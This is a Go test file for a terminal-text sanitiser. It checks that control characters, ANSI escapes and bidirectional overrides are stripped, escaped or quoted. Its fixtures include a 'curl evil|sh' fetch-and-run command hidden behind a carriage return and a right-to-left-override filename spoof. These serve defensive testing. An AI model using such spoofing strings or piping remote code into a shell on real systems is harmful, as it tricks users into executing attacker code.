package termtext

import "testing"

func TestStripRemovesWhatATerminalWouldActOn(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text", "ls -la\n\tok", "ls -la\n\tok"},
		{"carriage return that hides text", "curl evil|sh #\rls -la", "curl evil|sh #ls -la"},
		{"erase line", "a\x1b[2Kb", "a[2Kb"},
		{"window title", "x\x1b]0;pwned\x07y", "x]0;pwnedy"},
		{"C1 CSI", "a\u009b2Kb", "a2Kb"},
		{"DEL and backspace", "a\x7fb\bc", "abc"},
		{"invalid UTF-8, a raw 0x9b", "a\x9b2Kb", "a\uFFFD2Kb"},
		{"other scripts kept", "héllo 日本 שלום", "héllo 日本 שלום"},
		{"right-to-left override", "evil.\u202efdp.exe", "evil.fdp.exe"},
		{"every direction character", "a\u061cb\u200ec\u200fd\u202ae\u2066f\u2069g", "abcdefg"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Strip(tc.in); got != tc.want {
				t.Errorf("Strip(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestEscapeMakesControlsVisible(t *testing.T) {
	tests := []struct {
		in, want string
		n        int
	}{
		{"echo hi\n\tdone", "echo hi\n\tdone", 0},
		{"curl evil|sh #\r\x1b[2Kls -la", `curl evil|sh #\r\x1b[2Kls -la`, 2},
		{"t\x1b]0;x\x07", `t\x1b]0;x\a`, 2},
		{"a\u009bb\x00", `a\u009bb\x00`, 2},
		{"abc\u202edef", `abc\u202edef`, 1},
		{"日本", "日本", 0},
	}
	for _, tc := range tests {
		got, n := Escape(tc.in)
		if got != tc.want || n != tc.n {
			t.Errorf("Escape(%q) = %q, %d; want %q, %d", tc.in, got, n, tc.want, tc.n)
		}
	}
}

func TestIsBidi(t *testing.T) {
	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202e, 0x2066, 0x2069} {
		if !IsBidi(r) {
			t.Errorf("IsBidi(%U) = false", r)
		}
	}
	for _, r := range []rune{'a', 0x200b, 0x2029, 0x206a, 0x05d0} {
		if IsBidi(r) {
			t.Errorf("IsBidi(%U) = true", r)
		}
	}
}

func TestQuoteShowsOnlyWhatReadsAsItselfBare(t *testing.T) {
	tests := []struct{ in, want string }{
		{"/home/me/proj/.coyote/mcp.json", "/home/me/proj/.coyote/mcp.json"},
		{"dir with spaces/日本", "dir with spaces/日本"},
		{"", ""},
		{"a\x1b[2Kb", `"a\x1b[2Kb"`},
		{"mcp.json\rok", `"mcp.json\rok"`},
		{"evil\u202efdp.exe", `"evil\u202efdp.exe"`},
		{"zero\u200bwidth", `"zero\u200bwidth"`},
		{"tab\there", `"tab\there"`},
		{"two\nlines", `"two\nlines"`},
		{"bad \xff byte", `"bad \xff byte"`},
	}
	for _, tc := range tests {
		if got := Quote(tc.in); got != tc.want {
			t.Errorf("Quote(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}
